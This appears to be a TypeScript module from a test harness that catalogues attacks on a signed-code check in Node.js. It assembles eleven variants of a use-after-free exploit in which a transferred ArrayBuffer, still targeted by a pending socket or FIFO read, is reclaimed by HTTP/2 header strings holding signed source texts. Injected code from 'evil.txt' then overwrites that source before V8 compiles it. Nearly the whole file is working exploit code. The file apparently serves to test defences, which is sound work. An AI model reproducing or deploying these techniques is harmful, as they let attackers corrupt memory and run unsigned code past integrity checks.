/**
 * These techniques write to memory that an ArrayBuffer had. Node.js has the address of a Buffer until something arrives,
 * and the program gives the ArrayBuffer away meanwhile. Libc then gives the memory to the value of a header of HTTP/2.
 * The value equals the text of a signed function, and is the name of a member, as is that text. So V8 takes it for the
 * text, and reads it when the function is called for the first time.
 */

import { execFileSync } from "../../outside.js";
import { BEFORE_22, type Technique, withData } from "../technique.js";

const BYTES = 8192;
const TEXTS = Object.fromEntries(
	Array.from({ length: 16 }, (_, number) => [
		`later-${number}.js`,
		`globalThis.later = function later() {/*${String(number).padStart(BYTES - 100, "x")}*/};`,
	]),
);

/** The functions of all programs here. `compile()` returns the text that it gave to V8. */
const COMMON = `
const fs = require("fs"), http2 = require("http2"), net = require("net");
const named = {};
const read = (number) => fs.readFileSync(__dirname + "/later-" + number + ".js", "latin1");
const evil = \`*/\${fs.readFileSync(data + "/evil.txt", "latin1").trim()}/*\`;
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const place = (name) => "\\0" + name + process.pid;
/** Returns the signed texts as strings whose characters are in memory of libc. */
const asHeaders = async () => {
  const strings = [], server = http2.createServer();
  await new Promise((done) => server.listen(place("headers"), done));
  const client = http2.connect("http://localhost", { createConnection: () => net.connect(place("headers")) });
  for (let i = 0; i < 64; i++) client.request({ x: read(i % 16) }).end();
  return new Promise((done) => server.on("stream", (stream, { x }) => {
    stream.respond();
    stream.end();
    if (strings.push(x) === 64) done(strings);
  }));
};
const collect = async () => {
  for (let round = 0; round < 6; round++) {
    let garbage = [];
    for (let i = 0; i < 400_000; i++) garbage = [garbage.length];
    await wait(10);
  }
};
const newBuffers = (count) => Array.from({ length: count }, makeBuffer);
/** Returns the function of a text, whose characters V8 reads in the string from now on. */
const load = (number, string) => {
  named[string] = 0;
  const text = compile("./later-" + number + ".js", read(number));
  named[text] = 0;
  return globalThis.later;
};
`;

/** Each of 64 sockets writes to a buffer. One that reaches a text is found by a byte that changes nothing else. */
const BY_SOCKETS = `
(async () => {
  const peers = [], server = net.createServer((peer) => peers.push(peer.on("error", () => {}))).listen(place("stale"));
  const connect = (buffer) => {
    const onread = { buffer: Buffer.from(buffer, 1024, 256), callback: () => true };
    net.connect({ path: place("stale"), onread }).on("error", () => {});
  };
  await (async () => {
    const buffers = newBuffers(64);
    buffers.forEach(connect);
    await wait(200);
    for (const buffer of buffers) await free(buffer);
  })();
  await collect();
  const strings = await asHeaders();
  for (const peer of peers) {
    peer.write("y");
    await wait(2);
    const reached = strings.find((string) => string.includes("y"));
    if (reached === undefined) continue;
    peer.write("x");
    await wait(20);
    const later = load(Number(/\\d+/.exec(reached)), reached);
    peer.write(evil);
    await wait(20);
    later();
    break;
  }
  process.exit();
})();
`;

/** A thread that waits for a FIFO writes once. So all texts are loaded before. */
const BY_A_FIFO = `
process.env.UV_THREADPOOL_SIZE = "32";
(async () => {
  const fifo = fs.openSync(data + "/fifo", "r+");
  await (async () => {
    const buffers = newBuffers(24);
    for (const buffer of buffers) fs.read(fifo, Buffer.from(buffer, 1024, 256), 0, 256, null, () => {});
    await wait(200);
    for (const buffer of buffers) await free(buffer);
  })();
  await collect();
  const functions = (await asHeaders()).slice(0, 16).map((string) => load(Number(/\\d+/.exec(string)), string));
  for (let i = 0; i < 24; i++) {
    fs.writeSync(fifo, evil);
    await wait(5);
  }
  for (const later of functions) later();
  fs.writeSync(fifo, "x".repeat(24 * 256)); // no thread waits when the process ends
  process.exit();
})();
`;

const MAKES = {
	"an ArrayBuffer": `const makeBuffer = () => new ArrayBuffer(${BYTES});`,
	// Node.js gives memory of libc to this ArrayBuffer.
	"memory that Node.js made": `const makeBuffer = () => require("buffer").transcode(Buffer.alloc(${BYTES}, 1), "latin1", "utf8").buffer;`,
} as const;

const FREES = {
	"structuredClone()": "const free = (buffer) => void structuredClone(buffer, { transfer: [buffer] });",
	"transfer(0)": "const free = (buffer) => void buffer.transfer(0);",
	"a MessagePort": `const { port1, port2 } = new MessageChannel();
const free = (buffer) => void port1.postMessage(buffer, [buffer]);
port2.on("message", () => {});`,
	"a worker": `const receiver = new (require("worker_threads").Worker)(__dirname + "/receiver.js", { execArgv: [] });
const free = (buffer) => receiver.postMessage(buffer, [buffer]);`,
} as const;

const COMPILES = {
	"vm.Script": `const compile = (file, text) => {
  new (require("vm").Script)(text, { filename: file }).runInThisContext();
  return text;
};`,
	"vm.compileFunction()": `const compile = (file, text) => {
  require("vm").compileFunction(text, [], { filename: file })();
  return text;
};`,
	"module._compile()": `const compile = (file, text) => {
  new module.constructor(file)._compile(text, __dirname + file.slice(1));
  return text;
};`,
	"require()": `const compile = (file) => {
  const { prototype } = module.constructor, { _compile } = prototype;
  let text;
  prototype._compile = function (content, ...rest) {
    text = content;
    return _compile.call(this, content, ...rest);
  };
  require(file);
  prototype._compile = _compile;
  return text;
};`,
} as const;

const stale = (
	make: keyof typeof MAKES,
	free: keyof typeof FREES,
	compile: keyof typeof COMPILES,
	write: string,
): Technique =>
	withData(
		`text changed after ${compile} by ${write === BY_A_FIFO ? "a FIFO" : "a socket"}, in ${make} that ${free} took`,
		MAKES[make] + FREES[free] + COMPILES[compile] + COMMON + write,
		{
			...(free === "transfer(0)" ? { notOn: BEFORE_22 } : {}),
			...(write === BY_A_FIFO ? { arrange: ({ data }) => execFileSync("mkfifo", [`${data}/fifo`]) } : {}),
		},
	);

/** Ends when it has got all, with which its ArrayBuffers end. */
const RECEIVER = `let left = 64;
require("worker_threads").parentPort.on("message", () => { if (--left === 0) process.exit(); });`;

export const freedBuffers: readonly Technique[] = [
	stale("an ArrayBuffer", "structuredClone()", "vm.Script", BY_SOCKETS),
	stale("an ArrayBuffer", "structuredClone()", "vm.compileFunction()", BY_SOCKETS),
	stale("an ArrayBuffer", "structuredClone()", "module._compile()", BY_SOCKETS),
	stale("an ArrayBuffer", "structuredClone()", "require()", BY_SOCKETS),
	stale("an ArrayBuffer", "transfer(0)", "require()", BY_SOCKETS),
	stale("an ArrayBuffer", "a MessagePort", "require()", BY_SOCKETS),
	stale("an ArrayBuffer", "a worker", "require()", BY_SOCKETS),
	stale("memory that Node.js made", "structuredClone()", "require()", BY_SOCKETS),
	stale("memory that Node.js made", "transfer(0)", "module._compile()", BY_SOCKETS),
	stale("an ArrayBuffer", "structuredClone()", "require()", BY_A_FIFO),
	stale("memory that Node.js made", "structuredClone()", "vm.Script", BY_A_FIFO),
].map((technique) => ({ ...technique, signed: { ...technique.signed, ...TEXTS, "receiver.js": RECEIVER } }));
